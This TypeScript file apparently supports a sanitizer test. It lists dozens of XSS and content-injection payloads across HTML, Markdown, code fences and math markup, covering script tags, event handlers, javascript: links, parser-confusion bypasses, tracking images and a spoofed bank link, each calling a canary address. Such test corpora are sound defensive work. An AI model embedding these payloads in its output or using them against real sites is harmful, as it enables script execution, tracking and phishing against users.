/** What a hostile model might write. `{C}` is an address that must never be asked, `{J}` a script that must never run. */
const SCRIPT = "window.owned=1;fetch('{C}')";

const MARKUP = [
  '<script>{J}</script>',
  '<img src=x onerror="{J}">',
  '<img src="{C}">',
  '<svg onload="{J}"><circle r="9"/></svg>',
  '<svg><image href="{C}"/></svg>',
  '<svg><use href="{C}#a"/></svg>',
  '<svg><script>{J}</script></svg>',
  '<svg><animate onbegin="{J}" attributeName="x" dur="1s"/></svg>',
  '<svg><foreignObject><iframe src="{C}"></iframe></foreignObject></svg>',
  '<iframe src="{C}"></iframe>',
  '<iframe srcdoc="&lt;script&gt;{J}&lt;/script&gt;"></iframe>',
  '<object data="{C}"></object>',
  '<embed src="{C}">',
  '<video poster="{C}" autoplay><source src="{C}" onerror="{J}"></video>',
  '<audio src="{C}" autoplay></audio>',
  '<base href="{C}"><img src="a.png">',
  '<meta http-equiv="refresh" content="0;url={C}">',
  '<link rel="stylesheet" href="{C}">',
  '<link rel="prefetch" href="{C}"><link rel="dns-prefetch" href="{C}">',
  '<style>@import url({C});body{background:url({C})}</style>',
  '<div style="background-image:url({C})">styled</div>',
  '<p style="position:fixed;inset:0;z-index:9999;background:red">cover</p>',
  '<input autofocus onfocus="{J}">',
  '<details open ontoggle="{J}"><summary>more</summary></details>',
  '<form action="{C}"><button formaction="javascript:{J}">Continue</button></form>',
  '<a href="javascript:{J}">raw link</a>',
  '<a href="{C}" ping="{C}" target="_top">ping</a>',
  '<math><mtext><img src="{C}" onerror="{J}"></mtext></math>',
  '<math><maction actiontype="statusline#{C}" xlink:href="javascript:{J}">m</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror="{J}"></annotation-xml></math>',
  '<table background="{C}"><tr><td background="{C}">cell</td></tr></table>',
  '<template><img src="{C}"></template><noscript><p title="</noscript><img src=x onerror={J}>"></noscript>',
  '<!-- <img src="{C}"> --><!--><img src="{C}" onerror="{J}">-->',
  '<x-element onclick="{J}" tabindex=0 onfocus="{J}" autofocus>custom</x-element>',
  '<img src="data:image/svg+xml,%3Csvg onload=%22{J}%22 xmlns=%22http://www.w3.org/2000/svg%22/%3E">',
  '<<img src=x onerror="{J}">//',
  '<IMG """><SCRIPT>{J}</SCRIPT>">',
  '<img srcset="{C} 1x, {C}?2 2x">',
];

const MARKDOWN = [
  '![a picture]({C})',
  '![by reference][pic]\n\n[pic]: {C} "title"',
  '[![linked picture]({C})]({C})',
  '![tracking](<{C}>)',
  '![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[a link](javascript:window.owned=1)',
  '[a link](JaVaScRiPt&colon;window.owned=1)',
  '[a link](data:text/html,<script>{J}</script>)',
  '[a link](vbscript:msgbox(1))',
  '[a link]({C} "onmouseover={J}")',
  '[by reference][evil]\n\n[evil]: javascript:window.owned=1',
  '<{C}>',
  'An address by itself: {C}',
  'www.example.com/{n} and someone@example.com',
  '[\u202Egnp.exe]({C})',
  '[https://your-bank.example]({C})',
  'A footnote.[^1]\n\n[^1]: ![note]({C})',
  '| a | b |\n|---|---|\n| ![in a cell]({C}) | <img src=x onerror="{J}"> |',
  '- [x] ![in a task]({C}) <script>{J}</script>',
  '> ![in a quotation]({C})',
  '# ![in a heading]({C})',
];

const LANGUAGES = [
  '```html\n<img src="{C}" onerror="{J}">\n```',
  '```mermaid\ngraph TD; A["<img src={C} onerror={J}>"] --> B; click A href "javascript:{J}"\n```',
  '```svg\n<svg onload="{J}"><image href="{C}"/></svg>\n```',
  '```"><img/src="{C}"/onerror="{J}">\ncode\n```',
  '```js onload={J}\nfetch("{C}")\n```',
  '~~~math\n\\href{javascript:{J}}{x}\n~~~',
];

const MATHS = [
  '$\\href{javascript:window.owned=1}{x}$',
  '$\\url{{C}}$',
  '$$\\includegraphics[height=1em]{{C}}$$',
  '$\\htmlData{onload=window.owned}{x}$ $\\htmlStyle{background:url({C})}{x}$ $\\htmlClass{fixed}{x}$',
  '$\\def\\x{\\x\\x}\\x$ and $\\rule{1000em}{1000em}$',
  '$\\text{<img src={C} onerror={J}>}$',
];

/** Every payload, with its number in its address, so that a request tells whose it is. */
export function payloads(canary: string): string[] {
  return [...MARKUP, ...MARKDOWN, ...LANGUAGES, ...MATHS].map((payload, n) =>
    payload
      .replaceAll('{J}', SCRIPT)
      .replaceAll('{C}', `${canary}/payload-${n}`)
      .replaceAll('{n}', String(n)),
  );
}
